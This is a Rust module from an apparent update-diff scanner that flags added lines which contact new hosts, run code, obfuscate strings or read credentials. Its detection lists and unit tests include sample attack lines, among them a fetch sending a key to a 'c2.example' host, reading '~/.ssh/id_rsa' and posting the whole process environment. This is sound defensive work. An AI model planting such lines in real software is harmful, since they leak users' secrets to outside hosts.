//! What an update adds: new places that it reaches out to, new ways to run code.
//!
//! A diff shows what reading would find at once and nothing more: it is a reason to look, never a reason to trust. The
//! sandbox is what keeps an unseen addition from reaching anybody.

use interlock_launch::excerpt;
use serde_json::Value;

use super::credentials::names_credentials;
use super::{Notes, rules};

/// Ways to start a program or to run text as code, in JavaScript and Python.
const RUNS_CODE: &[&str] = &[
    "child_process",
    "execSync",
    "execFile",
    "spawnSync",
    "new Function",
    "process.binding",
    "process.dlopen",
    "data:text/javascript",
    "subprocess",
    "os.system",
    "os.popen",
    "os.exec",
    "__import__",
    "importlib",
    "vm.run",
    "atob(",
    "b64decode",
    "pickle.loads",
    "marshal.loads",
    "ctypes.CDLL",
];

/// The same as functions: a method of that name (`regex.exec`, `re.compile`, `model.eval`) is another thing.
const RUNS_CODE_ALONE: &[&str] = &["eval(", "exec(", "compile(", "spawn(", "fork("];

/// Ways to write text so that nobody reads it: codes of characters, and pieces of a word that gives itself away.
const HIDES_TEXT: &[&str] = &[
    "fromCharCode",
    "fromCodePoint",
    "unescape(",
    "decodeURIComponent('%",
    "'base64'",
    "\"base64\"",
];

/// Judges the lines that an update adds; `removed` has those it takes away.
pub(super) fn judge_lines(added: &[&str], removed: &[&str], notes: &mut Notes) {
    let before: Vec<String> = removed
        .iter()
        .flat_map(|line| places(line))
        .map(reached)
        .collect();
    for line in added {
        for place in places(line) {
            if !before.contains(&reached(place)) {
                let text = format!(
                    "the update adds `{}`, in `{}`",
                    excerpt(place),
                    excerpt(line)
                );
                notes.note(rules::UPDATE_REACHES_OUT, text);
            }
        }
        for (rule, found) in [
            (rules::UPDATE_RUNS_CODE, runs_code(line)),
            (rules::UPDATE_HIDES_TEXT, hides_text(line)),
            (rules::UPDATE_READS_SECRETS, reads_secrets(line)),
        ] {
            if found {
                notes.note(rule, format!("the update adds `{}`", excerpt(line)));
            }
        }
    }
}

/// The lines that a diff adds and takes away: lists under `added` and `removed`, a text with line ends in their place, or the whole as
/// one text in the unified format.
pub(super) fn lines_of(diff: &Value) -> (Vec<&str>, Vec<&str>) {
    if let Value::String(text) = diff {
        let marked = |mark: char| -> Vec<&str> {
            let line =
                |line: &'_ str| -> bool { !line.starts_with("+++") && !line.starts_with("---") };
            let lines = text.lines().filter(|text| line(text));
            lines.filter_map(|line| line.strip_prefix(mark)).collect()
        };
        return (marked('+'), marked('-'));
    }
    let texts = |key: &str| diff.get(key).map(texts).unwrap_or_default();
    (texts("added"), texts("removed"))
}

/// Every text in a value, line by line, however it is wrapped.
fn texts(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => text.lines().collect(),
        Value::Array(list) => list.iter().flat_map(texts).collect(),
        Value::Object(map) => map.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}

fn runs_code(line: &str) -> bool {
    let alone = |way: &str| {
        line.match_indices(way).any(|(at, _)| {
            let before = line.get(..at).and_then(|text| text.chars().next_back());
            before.is_none_or(|c| !(c.is_alphanumeric() || matches!(c, '_' | '.' | '$')))
        })
    };
    RUNS_CODE.iter().any(|way| line.contains(way)) || RUNS_CODE_ALONE.iter().any(|way| alone(way))
}

fn hides_text(line: &str) -> bool {
    let codes = line.matches("\\x").count() + line.matches("\\u00").count();
    // A word that is put together from pieces was taken apart so that nobody finds it.
    let pieces: String = line
        .chars()
        .filter(|c| !matches!(c, '"' | '\'' | '`' | '+') && !c.is_whitespace())
        .collect();
    let joined = ["child_process", "https://", "http://", "node:"]
        .iter()
        .any(|word| pieces.contains(word) && !line.contains(word) && line.contains('+'));
    codes >= 3 || joined || HIDES_TEXT.iter().any(|way| line.contains(way))
}

/// Reading places of credentials, or the whole environment at once.
fn reads_secrets(line: &str) -> bool {
    let whole = |name: &str, goes_on: &[char]| {
        line.match_indices(name).any(|(at, _)| {
            let after = line
                .get(at + name.len()..)
                .and_then(|rest| rest.chars().next());
            after.is_none_or(|c| !goes_on.contains(&c) && !c.is_alphanumeric())
        })
    };
    names_credentials(&line.replace(['(', ')'], " "))
        || whole("process.env", &['.', '[', '?', '_'])
        || whole("os.environ", &['.', '[', '_'])
}

/// Mail addresses, addresses of the web and bare numeric addresses in a line.
fn places(line: &str) -> impl Iterator<Item = &str> {
    let separates = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | '(' | ')' | '<' | '>' | ',' | ';' | '[' | ']' | '{' | '}'
            )
    };
    // Four numbers in a line about a version are one.
    let version = line.to_ascii_lowercase().contains("version");
    line.split(separates)
        .filter(move |word| is_mail(word) || is_web(word) || (is_number(word) && !version))
}

/// Whom one reaches with it: an address of the web without what comes after the host, anything else whole.
fn reached(place: &str) -> String {
    let (scheme, rest) = place.split_once("//").unwrap_or(("", place));
    let host = rest.split(['/', '?', '#', '$']).next().unwrap_or(rest);
    format!("{scheme}//{}", host.to_ascii_lowercase())
}

fn is_mail(word: &str) -> bool {
    word.split_once('@').is_some_and(|(user, host)| {
        !user.is_empty()
            && !user.contains('/')
            && host.contains('.')
            && !host.starts_with('.')
            && !host.contains('/')
            && host.starts_with(|c: char| c.is_ascii_alphabetic())
    })
}

fn is_web(word: &str) -> bool {
    [
        "http://", "https://", "ws://", "wss://", "ftp://", "smtp://",
    ]
    .iter()
    .any(|scheme| word.contains(scheme))
        || word.strip_prefix("//").is_some_and(is_host)
}

/// `host.example/…`: what follows the two slashes of an address without a scheme, and no comment.
fn is_host(rest: &str) -> bool {
    let host = rest.split(['/', '?', ':']).next().unwrap_or(rest);
    let label = |label: &str| {
        !label.is_empty()
            && label
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    host.contains('.') && host.split('.').all(label) && rest.contains('/')
}

fn is_number(word: &str) -> bool {
    let host = word.split(':').next().unwrap_or(word);
    host.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|address| !address.is_loopback() && !address.is_unspecified())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn lines_of_every_form() {
        for (diff, added, removed) in [
            (
                json!({"added": ["a"], "removed": ["b"]}),
                &["a"][..],
                &["b"][..],
            ),
            (json!({"added": "a\nb"}), &["a", "b"], &[]),
            (json!({"added": [{"line": "a"}]}), &["a"], &[]),
            (json!("--- x\n+++ x\n@@ @@\n-b\n+a\n c"), &["a"], &["b"]),
            (json!(1), &[], &[]),
        ] {
            assert_eq!(
                lines_of(&diff),
                (added.to_vec(), removed.to_vec()),
                "{diff}"
            );
        }
    }

    #[test]
    fn additions_that_reach_out_or_run_code() {
        for (added, removed, expected) in [
            ("Bcc: 'x@attacker.invalid'", "", &["update-reaches-out"][..]),
            (
                "fetch(`https://c2.example/${key}`)",
                "",
                &["update-reaches-out"],
            ),
            ("connect('203.0.113.9:443')", "", &["update-reaches-out"]),
            (
                "fetch('https://api.example')",
                "get('https://api.example')",
                &[],
            ),
            (
                "require('child_process').execSync(x)",
                "",
                &["update-runs-code"],
            ),
            ("import x from '@scope/pkg'", "", &[]),
            (
                "fetch('https://evil.example')",
                "// https://evil.example.com",
                &["update-reaches-out"],
            ),
            (
                "fetch('https://api.example/v2/items')",
                "fetch('https://api.example/v1/items')",
                &[],
            ),
            ("fetch(`//c2.example/`)", "", &["update-reaches-out"]),
            ("regex.exec(text)", "", &[]),
            ("const p = re.compile(x)", "", &[]),
            ("exec(code)", "", &["update-runs-code"]),
            ("window.eval(x); eval(x)", "", &["update-runs-code"]),
            ("importlib.import_module(n)", "", &["update-runs-code"]),
            ("require('child_' + 'process')", "", &["update-hides-text"]),
            ("x = '\\x68\\x74\\x74\\x70'", "", &["update-hides-text"]),
            ("open(home + '/.ssh/id_rsa')", "", &["update-reads-secrets"]),
            (
                "send(JSON.stringify(process.env))",
                "",
                &["update-reads-secrets"],
            ),
            ("key = process.env.API_KEY", "", &[]),
            ("key = os.environ['API_KEY']", "", &[]),
            ("version = '1.2.3.4'", "", &[]),
            ("const total = a + b; // 1.0.16", "", &[]),
            ("listen('127.0.0.1')", "", &[]),
        ] {
            let mut notes = Notes::default();
            judge_lines(&[added], &[removed], &mut notes);
            assert_eq!(notes.codes(), expected, "{added}");
        }
    }
}
